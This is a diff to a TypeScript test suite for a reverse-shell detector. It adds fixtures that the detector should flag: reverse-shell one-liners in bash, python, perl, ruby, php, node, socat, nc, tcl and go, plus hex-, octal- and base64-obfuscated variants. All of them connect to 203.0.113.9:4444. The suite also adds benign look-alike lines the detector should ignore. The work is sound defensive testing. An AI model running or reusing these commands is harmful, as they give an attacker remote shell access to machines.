@@ -55,6 +55,42 @@ const OF_BOOKS = [
   `sh -c echo "${BASE64(PAYLOAD).slice(0, 20)}""${BASE64(PAYLOAD).slice(20)}"|base64 -d|bash`,
   `pwsh -enc ${BASE64('$c=New-Object Net.Sockets.TCPClient("203.0.113.9",4444);iex $c.GetStream()', 'utf16le')}`,
 ];
+const HEX = (text: string): string => Buffer.from(text).toString('hex');
+const ESCAPED = [...PAYLOAD].map((letter) => `\\x${HEX(letter)}`).join('');
+const OCTAL = [...PAYLOAD].map((letter) => `\\${letter.charCodeAt(0).toString(8).padStart(3, '0')}`).join('');
+const SPELLED = [
+  `bash -c $'${ESCAPED}'`,
+  `bash -c "$(printf '${ESCAPED}')"`,
+  `bash -c printf '${OCTAL}' | bash`,
+  `sh -c echo ${HEX(PAYLOAD)} | xxd -r -p | bash`,
+  `python3 -c __import__("os").system(bytes.fromhex("${HEX(PAYLOAD)}").decode())`,
+  `perl -e 'system(pack("H*","${HEX(PAYLOAD)}"))'`,
+  `sh -c echo '${BASE64(`${'# '.repeat(30)}\n${PAYLOAD}`)
+    .match(/.{1,76}/g)
+    ?.join('\n')}' | base64 -d | bash`,
+  `bash -c bash -i >& /dev/\${X:-tcp}/203.0.113.9/4444 0>&1`,
+  'bash -c bash -i >& /dev/$(echo tcp)/203.0.113.9/4444 0>&1',
+  'bash -c bash -i >& /dev/$(printf "tcp")/203.0.113.9/4444 0>&1',
+];
+const OTHER_PROGRAMS = [
+  'python3 -c import socket,os;s=socket.create_connection(("203.0.113.9",4444));os.popen(s.recv(999).decode())',
+  'python3 -c import socket,subprocess as p;s=socket.create_connection(("203.0.113.9",4444));p.Popen(["ba"+"sh"],stdin=s.fileno())',
+  'ksh -c ksh >/dev/tcp/203.0.113.9/4444 <&1 2>&1',
+  'sh -c nc 203.0.113.9 4444 | sh',
+  'sh -c nc 203.0.113.9 4444 | /bin/bash -s >/dev/null 2>&1 &',
+  'sh -c openssl s_client -quiet -connect 203.0.113.9:4444 2>/dev/null | sh',
+  'nc -e python3 203.0.113.9 4444',
+  'socat SOCKS4A:203.0.113.9:h:4444 EXEC:bash',
+  'socat VSOCK-CONNECT:2:4444 EXEC:bash',
+  `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("203.0.113.9:4444");while(defined($l=<$s>)){print $s \`$l\`}'`,
+  `ruby -rsocket -e 'c=Socket.tcp("203.0.113.9",4444);while l=c.gets;c.print \`#{l}\`;end'`,
+  'php -r \'$sock=fsockopen("203.0.113.9",4444);`sh <&3 >&3 2>&3`;\'',
+  `php -r '$s=stream_socket_client("tcp://203.0.113.9:4444");proc_open("sh",[$s,$s,$s],$p);'`,
+  `node -e 'const s=require("node:net").createConnection(4444,"203.0.113.9");s.pipe(require("node:child_process").spawn("/bin/sh").stdin)'`,
+  `node -e 'require("net").connect(4444,"203.0.113.9",function(){this.on("data",d=>this.write(require("child_process").execSync(""+d)))})'`,
+  "sh -c echo 'set s [socket 203.0.113.9 4444];while 42 {gets $s c;eval exec $c}' | tclsh",
+  `sh -c echo 'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","203.0.113.9:4444");x:=exec.Command("sh");x.Stdin=c;x.Run()}' > t.go; go run t.go`,
+];
 const HIDDEN = [
   'bash -c ls|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
   'bash -c ls\t|\tbash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
@@ -73,6 +109,7 @@ const UNCERTAIN = [
   'bash -c until </dev/tcp/db/5432; do sleep 1; done; exec bash -ic run',
   'bash -c ./wait.sh </dev/tcp/db/5432',
   'bash -c echo bash </etc/hosts >/dev/tcp/db/5432',
+  'bash -c exec 3<>/dev/tcp/db/80 && echo -e "GET / HTTP/1.1" >&3 && cat <&3',
   "bash -c '</dev/tcp/db/5432'",
   'python3 -c \'import pty; pty.spawn("/bin/bash")\'',
 ];
@@ -105,6 +142,14 @@ const NONE = [
   'perl -MIO::Socket -e print "hello"',
   'bash -c bash </etc/hosts',
   'bash -c source /dev/stdin',
+  'sh -c nc db 5432 | shasum',
+  'python3 -c import socket,subprocess;socket.create_connection(("db",5432));subprocess.run(["app","serve"])',
+  'sh -c nc -l -p 8080 | sh -c "cat > /tmp/out"',
+  'sh -c nc db 5432 | sh /opt/parse.sh',
+  `node -e 'require("child_process").exec("git rev-parse HEAD"); client.connect()'`,
+  `php -r '$s=fsockopen("db",5432); echo $s ? 1 : 0;'`,
+  `perl -MIO::Socket -e '$s=IO::Socket::INET->new("db:5432"); while(<$s>){print}'`,
+  "sh -c grep -P '\\x7c' /etc/hosts",
   `cat ${BASE64('a document about nothing in particular')}`,
   `cat /app/${'a'.repeat(64)}`,
 ];
@@ -115,6 +160,12 @@ describe('a reverse shell in a command line', () => {
   }
   for (const line of OF_BOOKS) {
     it(`is certain as textbooks write it: ${line}`, () => assert.equal(reverseShellIn(line)?.certain, true));
+  }
+  for (const line of SPELLED) {
+    it(`is certain in another spelling: ${line.slice(0, 70)}`, () => assert.equal(reverseShellIn(line)?.certain, true));
+  }
+  for (const line of OTHER_PROGRAMS) {
+    it(`is certain by another program: ${line.slice(0, 70)}`, () => assert.equal(reverseShellIn(line)?.certain, true));
   }
   for (const line of HIDDEN) {
     it(`is certain behind a command that only reads: ${line}`, () => assert.equal(reverseShellIn(line)?.certain, true));
